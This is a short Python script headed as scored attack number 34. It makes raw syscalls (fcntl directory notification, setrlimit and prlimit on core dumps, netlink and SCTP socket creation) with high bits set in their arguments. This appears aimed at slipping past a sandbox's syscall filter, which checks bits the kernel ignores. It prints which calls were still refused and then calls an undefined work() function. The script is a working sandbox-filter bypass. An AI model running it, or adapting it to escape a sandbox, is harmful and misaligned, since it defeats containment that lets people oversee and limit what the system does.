# attack: 34
# does: asks the kernel for what is refused by its number, with bits above it that the kernel does not read
# run: finished
# earns: 10
# prints: refused: dnotify 1, core (True, True), netlink 97, raw 93
# with: work
import ctypes
import os
import resource
import socket

more = 1 << 32
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
numbers = {"x86_64": (72, 41, 160, 302), "aarch64": (25, 198, 164, 261)}[os.uname().machine]


def call(number, *arguments):
    ctypes.set_errno(0)
    libc.syscall(ctypes.c_long(number), *(ctypes.c_ulong(each) for each in arguments))
    return ctypes.get_errno()


fcntl, sockets, setrlimit, prlimit = numbers
before = resource.getrlimit(resource.RLIMIT_CORE)
nothing = (ctypes.c_ulong * 2)(0, 0)
place = ctypes.addressof(nothing)
dnotify = call(fcntl, os.open("/usr/lib", os.O_RDONLY), 1026 | more, 1 | 1 << 31)
call(setrlimit, resource.RLIMIT_CORE | more, place)
first = resource.getrlimit(resource.RLIMIT_CORE) == before
call(prlimit, 0, resource.RLIMIT_CORE | more, place, 0)
core = (first, resource.getrlimit(resource.RLIMIT_CORE) == before)
netlink = call(sockets, 16 | more, socket.SOCK_RAW, 0)
raw = call(sockets, socket.AF_INET, socket.SOCK_STREAM, 132 | more)
print(f"refused: dnotify {dnotify}, core {core}, netlink {netlink}, raw {raw}")
work()
